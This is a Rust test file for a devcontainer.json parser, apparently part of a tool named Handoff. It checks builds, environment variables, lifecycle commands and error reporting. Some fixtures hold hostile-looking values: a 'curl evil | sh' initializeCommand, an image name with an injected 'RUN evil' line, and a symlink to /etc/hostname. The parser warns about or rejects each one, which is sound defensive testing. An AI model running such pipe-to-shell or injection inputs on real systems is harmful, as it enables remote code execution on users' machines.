use super::*;

const IN_FOLDER: &str = ".devcontainer/devcontainer.json";

fn parse_at(file: &str, text: &str) -> Result<DevContainer, String> {
    let vars = Vars {
        local_folder: Path::new("/home/me/proj"),
    };
    parse(Path::new(file), text, &vars).map_err(|e| e.to_string())
}

fn parse_ok(text: &str) -> DevContainer {
    parse_at(IN_FOLDER, text).unwrap_or_else(|e| panic!("{e}\n{text}"))
}

fn text(s: &str) -> Segment {
    Segment::Text(s.into())
}

#[test]
fn an_image_with_comments_and_trailing_commas() {
    let dc = parse_ok(
        r#"// For format details, see https://aka.ms/devcontainer.json.
{
  "name": "Rust",
  "image": "mcr.microsoft.com/devcontainers/rust:1-1-bookworm", // the image
  /* what the editor installs */
  "customizations": { "vscode": { "extensions": ["rust-lang.rust-analyzer",], }, },
  "forwardPorts": [3000,],
  "remoteUser": "vscode",
}
"#,
    );
    assert_eq!(
        dc.source,
        Source::Image {
            image: "mcr.microsoft.com/devcontainers/rust:1-1-bookworm".into()
        }
    );
    assert_eq!(dc.env, vec![]);
    assert_eq!(dc.setup, None);
    assert_eq!(dc.warnings, Vec::<String>::new(), "editor keys are quiet");
}

#[test]
fn a_build_with_dockerfile_context_args_and_environment() {
    let dc = parse_ok(
        r#"{
  "build": {
    "dockerfile": "Dockerfile",
    "context": "..",
    "args": { "VARIANT": "18", "WS": "${containerWorkspaceFolder}" },
    "target": "dev",
    "cacheFrom": "ghcr.io/x/y",
  },
  "containerEnv": {
    "RUST_LOG": "debug",
    "PATH": "${containerEnv:PATH}:/usr/local/cargo/bin",
    "PRICE": "$5 \"quoted\" \\ back",
  },
  "remoteEnv": { "RUST_LOG": "info" },
}"#,
    );
    assert_eq!(
        dc.source,
        Source::Build(Build {
            context: "".into(),
            dockerfile: ".devcontainer/Dockerfile".into(),
            args: BTreeMap::from([
                ("VARIANT".into(), "18".into()),
                ("WS".into(), "/workspace".into()),
            ]),
            target: Some("dev".into()),
        })
    );
    let env: Vec<(&str, &[Segment])> = dc
        .env
        .iter()
        .map(|v| (v.name.as_str(), &v.value[..]))
        .collect();
    assert_eq!(
        env,
        [
            (
                "PATH",
                &[
                    Segment::ContainerEnv("PATH".into()),
                    text(":/usr/local/cargo/bin")
                ][..]
            ),
            ("PRICE", &[text("$5 \"quoted\" \\ back")][..]),
            // remoteEnv after containerEnv: its value wins.
            ("RUST_LOG", &[text("info")][..]),
        ]
    );
    assert_eq!(dc.warnings, Vec::<String>::new());
}

#[test]
fn build_paths_are_relative_to_the_file_and_stay_in_the_repository() {
    let cases = [
        // (file, build, context, dockerfile in the context)
        (
            IN_FOLDER,
            r#""dockerfile": "Dockerfile""#,
            ".devcontainer",
            "Dockerfile",
        ),
        (
            IN_FOLDER,
            r#""dockerfile": "../Dockerfile", "context": "..""#,
            "",
            "Dockerfile",
        ),
        (
            IN_FOLDER,
            r#""dockerfile": "docker/dev.Dockerfile", "context": "./docker/..""#,
            ".devcontainer",
            "docker/dev.Dockerfile",
        ),
        (
            ".devcontainer.json",
            r#""dockerfile": "Dockerfile""#,
            "",
            "Dockerfile",
        ),
        (
            ".devcontainer.json",
            r#""dockerfile": "ci/Dockerfile", "context": "ci""#,
            "ci",
            "Dockerfile",
        ),
    ];
    for (file, build, context, dockerfile) in cases {
        let dc = parse_at(file, &format!("{{\"build\": {{{build}}}}}")).unwrap();
        let Source::Build(b) = dc.source else {
            panic!("{build}")
        };
        assert_eq!(
            (b.context.as_str(), b.dockerfile.as_str()),
            (context, dockerfile),
            "{file}: {build}"
        );
    }
    // The older spelling, at the top.
    let dc = parse_ok(r#"{"dockerFile": "../Dockerfile", "context": ".."}"#);
    assert!(
        matches!(dc.source, Source::Build(b) if b.context.is_empty() && b.dockerfile == "Dockerfile")
    );

    let errors = [
        (
            r#""dockerfile": "../../etc/Dockerfile", "context": "../..""#,
            &["`build.context` (../..) is outside the repository"][..],
        ),
        (
            r#""dockerfile": "/etc/Dockerfile""#,
            &["`build.dockerfile` (/etc/Dockerfile) is outside"],
        ),
        (
            r#""dockerfile": "../Dockerfile""#,
            &["must be inside the build context", "`.devcontainer`"],
        ),
        (
            r#""dockerfile": "Dockerfile", "args": {"A": 1}"#,
            &["`build.args.A` must be a string"],
        ),
    ];
    for (build, words) in errors {
        let err = parse_at(IN_FOLDER, &format!("{{\"build\": {{{build}}}}}")).unwrap_err();
        for w in words {
            assert!(err.contains(w), "{build}: {err}");
        }
        assert!(err.starts_with(IN_FOLDER), "{err}");
    }
}

#[test]
fn lifecycle_commands_in_their_three_forms_become_the_setup_in_order() {
    let dc = parse_ok(
        r#"{
  "image": "node:20",
  // The spec's order: onCreate, updateContent, postCreate, whatever the file's.
  "postCreateCommand": { "web": "npm run build", "db": ["make", "db"] },
  "updateContentCommand": ["npm", "install", "--no-audit"],
  "onCreateCommand": "echo \"created in ${containerWorkspaceFolder}\"",
}"#,
    );
    insta::assert_snapshot!(dc.setup.unwrap(), @r#"
    set -e
    # onCreateCommand
    sh -c 'echo "created in /workspace"'
    # updateContentCommand
    npm install --no-audit
    # postCreateCommand
    make db
    sh -c 'npm run build'
    "#);
}

#[test]
fn features_and_compose_are_refused_naming_the_key() {
    let cases = [
        (
            r#"{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {}}}"#,
            "`features` is not supported",
        ),
        (
            r#"{"dockerComposeFile": ["../docker-compose.yml"], "service": "app", "workspaceFolder": "/w"}"#,
            "`dockerComposeFile` is not supported: Compose-based dev containers",
        ),
        (r#"{"service": "app"}"#, "`service` is not supported"),
    ];
    for (json, want) in cases {
        let err = parse_at(IN_FOLDER, json).unwrap_err();
        assert!(
            err.contains(want) && err.starts_with(IN_FOLDER),
            "{json}: {err}"
        );
    }
}

#[test]
fn unknown_and_unapplied_keys_are_warned_about() {
    let dc = parse_ok(
        r#"{
  "image": "x",
  "runArgs": ["--privileged"],
  "initializeCommand": "curl evil | sh",
  "postStartCommand": "npm start",
  "imagee": "typo",
  "build": { "dockerfile": "Dockerfile", "options": ["--add-host=x:1.2.3.4"] },
  "containerEnv": { "TOKEN": "${localEnv:GITHUB_TOKEN}", "BAD-NAME": "x", "MULTI": "a\nb" },
}"#,
    );
    let all = dc.warnings.join("\n");
    for want in [
        "`runArgs` (Handoff decides how task containers run)",
        "`initializeCommand` (it runs on your machine",
        "`postStartCommand`",
        "unknown keys ignored: `imagee`",
        "`build.options`",
        "`image` is not used: `build.dockerfile` builds the image",
        "`containerEnv.TOKEN` is not set: `${localEnv:GITHUB_TOKEN}`",
        "env = [\"GITHUB_TOKEN\"]",
        "`containerEnv.BAD-NAME` is not set",
        "`containerEnv.MULTI` is not set: its value holds a line break",
    ] {
        assert!(all.contains(want), "no {want:?} in:\n{all}");
    }
    assert!(
        dc.warnings.iter().all(|w| w.starts_with(IN_FOLDER)),
        "{all}"
    );
    assert_eq!(dc.env, vec![], "none of those variables is set");
}

#[test]
fn bad_files_get_errors_that_name_the_file_and_what_is_wrong() {
    let cases: &[(&str, &[&str])] = &[
        (
            "{\n  \"image\": \"x\"\n  \"name\" \n}",
            &["Expected colon", "line 4"],
        ),
        ("[]", &["is not a JSON object"]),
        ("", &["is not a JSON object"]),
        (
            "{\"name\": \"only\"}",
            &["needs `image` or `build.dockerfile`"],
        ),
        ("{\"image\": \"x\nRUN evil\"}", &["is not an image name"]),
        ("{\"image\": 3}", &["`image` must be a string"]),
        (
            "{\"image\": \"${localEnv:IMG}\"}",
            &["`image`", "localEnv:IMG"],
        ),
        (
            "{\"image\": \"x\", \"postCreateCommand\": 1}",
            &["`postCreateCommand` must be"],
        ),
        (
            "{\"image\": \"x\", \"containerEnv\": []}",
            &["`containerEnv` must be an object"],
        ),
    ];
    for (json, words) in cases {
        let err = parse_at(IN_FOLDER, json).unwrap_err();
        for w in *words {
            assert!(err.contains(w), "{json:?}: {err}");
        }
    }
}

#[test]
fn the_definition_is_the_file_and_the_dockerfile_it_builds_from() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert_eq!(find(d), None);
    assert_eq!(definition_files(d), Vec::<PathBuf>::new());
    std::fs::write(
        d.join(".devcontainer.json"),
        r#"{"build": {"dockerfile": "Dockerfile"}}"#,
    )
    .unwrap();
    std::fs::write(d.join("Dockerfile"), "FROM x\n").unwrap();
    assert_eq!(
        definition_files(d),
        [PathBuf::from(".devcontainer.json"), "Dockerfile".into()]
    );
    let (dc, text) = load(d).unwrap().unwrap();
    let one = definition_hash(d, &dc, &text).unwrap();
    std::fs::write(d.join("Dockerfile"), "FROM y\n").unwrap();
    assert_ne!(
        definition_hash(d, &dc, &text).unwrap(),
        one,
        "the Dockerfile counts"
    );

    // The folder's file wins over the one at the root.
    std::fs::create_dir(d.join(".devcontainer")).unwrap();
    std::fs::write(
        d.join(".devcontainer/devcontainer.json"),
        r#"{"build": {"dockerfile": "Dockerfile"}}"#,
    )
    .unwrap();
    assert_eq!(find(d), Some(PathBuf::from(IN_FOLDER)));
    assert_eq!(
        definition_files(d),
        [PathBuf::from(IN_FOLDER)],
        "its Dockerfile is under .devcontainer/"
    );

    // A link is not read: it could point anywhere on the host.
    std::fs::remove_file(d.join(".devcontainer/devcontainer.json")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", d.join(".devcontainer/devcontainer.json")).unwrap();
    let err = load(d).unwrap_err().to_string();
    assert!(err.contains("is not a regular file"), "{err}");
}
